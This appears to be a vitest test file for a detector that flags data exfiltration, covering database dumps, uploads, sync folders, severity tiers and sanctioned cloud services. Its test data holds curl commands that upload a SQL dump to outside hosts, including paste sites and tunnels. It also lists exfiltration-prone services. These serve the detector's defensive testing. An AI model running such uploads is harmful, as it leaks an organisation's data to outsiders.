import { describe, expect, it } from 'vitest';
import { Desk } from '../../support/desk.ts';
import { MAC_PROGRAMS } from '../../support/mac-programs.ts';
import { PROGRAMS } from '../../support/story.ts';

type Tell = (desk: Desk) => unknown;

const send =
  (host: string): Tell =>
  (desk) => {
    desk.dump('Desktop/a.sql');
    desk.type(PROGRAMS.curl, `curl -T Desktop/a.sql https://${host}/x`);
  };
const sendByTime =
  (host: string): Tell =>
  (desk) => {
    desk.save('Downloads/a.xlsx');
    desk.type(PROGRAMS.curl, `curl -T Downloads/a.xlsx https://${host}/x`);
  };
const browse =
  (host: string): Tell =>
  (desk) => {
    const browser = desk.background(PROGRAMS.chrome);
    desk.dump('Desktop/a.sql');
    desk.story.open(browser, desk.at('Desktop/a.sql'));
    desk.reach(browser, host);
  };

describe('the table row of', () => {
  it.each<{ title: string; tell: Tell; row: readonly unknown[] }>([
    {
      title: 'a tool',
      tell: (desk) => desk.type(PROGRAMS.psql, 'psql'),
      row: ['tool', null, null, 'low', 'medium'],
    },
    {
      title: 'an export by time',
      tell: (desk) => desk.save(),
      row: ['export', 'temporal', null, 'low', 'low'],
    },
    {
      title: 'an export by lineage',
      tell: (desk) => desk.dump(),
      row: ['export', 'lineage', null, 'medium', 'high'],
    },
    {
      title: 'a flow after an export by time',
      tell: (desk) => desk.reach(desk.save(), 'box.com'),
      row: ['suspected-upload', 'temporal', 'flow-only', 'low', 'low'],
    },
    {
      title: 'a flow after an export by lineage',
      tell: (desk) => {
        desk.dump();
        desk.reach(desk.background(MAC_PROGRAMS.script), 'box.com');
      },
      row: ['suspected-upload', 'lineage', 'flow-only', 'medium', 'medium'],
    },
    {
      title: 'an upload by time',
      tell: sendByTime('box.com'),
      row: ['upload', 'temporal', 'named-in-upload-command', 'medium', 'medium'],
    },
    {
      title: 'an upload by browser',
      tell: browse('box.com'),
      row: ['upload', 'lineage', 'opened-by-browser', 'high', 'medium'],
    },
    {
      title: 'an upload by command',
      tell: send('box.com'),
      row: ['upload', 'lineage', 'named-in-upload-command', 'high', 'high'],
    },
    {
      title: 'an upload by folder',
      tell: (desk) => desk.dump('Dropbox/a.sql'),
      row: ['upload', 'lineage', 'landed-in-sync-folder', 'high', 'high'],
    },
  ])('$title', ({ tell, row }) => {
    const desk = new Desk();
    tell(desk);
    expect(
      desk
        .findings()
        .map(({ stage, link, evidence, severity, confidence }) => [
          stage,
          link,
          evidence,
          severity,
          confidence,
        ]),
    ).toEqual([row]);
  });
});

describe('the tier of the service', () => {
  it.each([
    ['wetransfer.com', 'anonymous', 'critical'],
    ['pastebin.com', 'anonymous', 'critical'],
    ['file.io', 'anonymous', 'critical'],
    ['a1.trycloudflare.com', 'tunnel', 'critical'],
    ['x.ngrok.io', 'tunnel', 'critical'],
    ['q.localhost.run', 'tunnel', 'critical'],
    ['webhook.site', 'tunnel', 'critical'],
    ['y.requestbin.com', 'tunnel', 'critical'],
    ['slack.com', 'messenger', 'high'],
    ['discord.com', 'messenger', 'high'],
    ['github.com', 'storage', 'high'],
    ['content.dropboxapi.com', 'storage', 'high'],
    ['bucket.s3.amazonaws.com', 'storage', 'high'],
    ['unknown.example', null, 'high'],
  ])('%s is %s, and an upload there %s', (host, serviceTier, severity) => {
    const desk = new Desk();
    send(host)(desk);
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', serviceTier, severity, confidence: 'high' },
    ]);
  });

  it.each<{ title: string; tell: Tell; severity: string; confidence: string }>([
    {
      title: 'a temporal upload to medium plus one',
      tell: sendByTime('wetransfer.com'),
      severity: 'high',
      confidence: 'medium',
    },
    {
      title: 'a browser upload to high plus one',
      tell: browse('wetransfer.com'),
      severity: 'critical',
      confidence: 'medium',
    },
  ])('raises $title', ({ tell, severity, confidence }) => {
    const desk = new Desk();
    tell(desk);
    expect(desk.findings()).toMatchObject([{ stage: 'upload', severity, confidence }]);
  });
});

describe('a sanctioned destination', () => {
  it.each<{ title: string; tell: Tell; sanctioned: string; level?: string; severity: string }>([
    {
      title: 'caps an upload at medium',
      tell: send('graph.microsoft.com'),
      sanctioned: 'onedrive',
      severity: 'medium',
    },
    {
      title: 'caps an anonymous one after it was raised',
      tell: send('wetransfer.com'),
      sanctioned: 'wetransfer',
      severity: 'medium',
    },
    {
      title: 'caps before the level lower takes its step',
      tell: send('wetransfer.com'),
      sanctioned: 'wetransfer',
      level: 'lower',
      severity: 'low',
    },
    {
      title: 'leaves what is lower',
      tell: (desk) => desk.reach(desk.save(), 'box.com'),
      sanctioned: 'box',
      severity: 'low',
    },
    {
      title: 'caps a landing in its folder',
      tell: (desk) => desk.dump('Dropbox/a.sql'),
      sanctioned: 'dropbox',
      severity: 'medium',
    },
  ])('$title', ({ tell, sanctioned, level = 'alert', severity }) => {
    const desk = new Desk();
    tell(desk);
    const config = {
      cloud: { sanctioned: [sanctioned] },
      userPrivilegeLevel: { unassigned: level },
    };
    expect(desk.findings(config)).toMatchObject([{ sanctioned: true, severity }]);
  });

  it('is no other service', () => {
    const desk = new Desk();
    send('box.com')(desk);
    expect(desk.findings({ cloud: { sanctioned: ['dropbox'] } })).toMatchObject([
      { sanctioned: false, severity: 'high' },
    ]);
  });

  it('is not one that nobody knows', () => {
    const desk = new Desk();
    send('unknown.example')(desk);
    expect(desk.findings({ cloud: { sanctioned: ['onedrive'] } })).toMatchObject([
      { sanctioned: false, severity: 'high' },
    ]);
  });

  it('after another one does not take the severity back', () => {
    const desk = new Desk();
    send('box.com')(desk);
    desk.type(PROGRAMS.curl, 'curl -T Desktop/a.sql https://graph.microsoft.com/x');
    expect(desk.findings({ cloud: { sanctioned: ['onedrive'] } })).toMatchObject([
      { severity: 'high', service: 'box', sanctioned: false },
    ]);
  });

  it('before another one gives way to it', () => {
    const desk = new Desk();
    send('graph.microsoft.com')(desk);
    desk.type(PROGRAMS.curl, 'curl -T Desktop/a.sql https://box.com/x');
    expect(desk.findings({ cloud: { sanctioned: ['onedrive'] } })).toMatchObject([
      { severity: 'high', service: 'box', sanctioned: false },
    ]);
  });
});

describe('the confidence', () => {
  it.each<{ title: string; complete: boolean; gap: boolean; tell: Tell; confidence: string }>([
    {
      title: 'complete and known',
      complete: true,
      gap: false,
      tell: send('box.com'),
      confidence: 'high',
    },
    { title: 'a gap', complete: true, gap: true, tell: send('box.com'), confidence: 'medium' },
    {
      title: 'an unknown role',
      complete: false,
      gap: false,
      tell: send('box.com'),
      confidence: 'medium',
    },
    {
      title: 'an unknown role and a gap',
      complete: false,
      gap: true,
      tell: send('box.com'),
      confidence: 'low',
    },
    {
      title: 'an unknown role and a gap on a low row',
      complete: false,
      gap: true,
      tell: sendByTime('box.com'),
      confidence: 'low',
    },
  ])('with $title is $confidence', ({ complete, gap, tell, confidence }) => {
    const desk = new Desk({ complete });
    if (gap) {
      // A first run of either tool, so that the gap lies inside the chain.
      desk.type(MAC_PROGRAMS.mysqldump, 'mysqldump early');
      const tool = desk.type(MAC_PROGRAMS.mariadb, 'mariadb early');
      desk.story.wait(1).lose(3).exit(tool);
    }
    tell(desk);
    const uploads = desk.findings().filter(({ stage }) => stage === 'upload');
    expect(uploads).toMatchObject([{ confidence, coverage: gap ? 'gaps' : 'complete' }]);
  });

  it('is that of the row that is shown, so it may fall when the stage rises', () => {
    const desk = new Desk();
    browse('box.com')(desk);
    expect(desk.emissions().map(({ stage, confidence }) => [stage, confidence])).toEqual([
      ['tool', 'medium'],
      ['export', 'high'],
      ['upload', 'medium'],
    ]);
  });
});
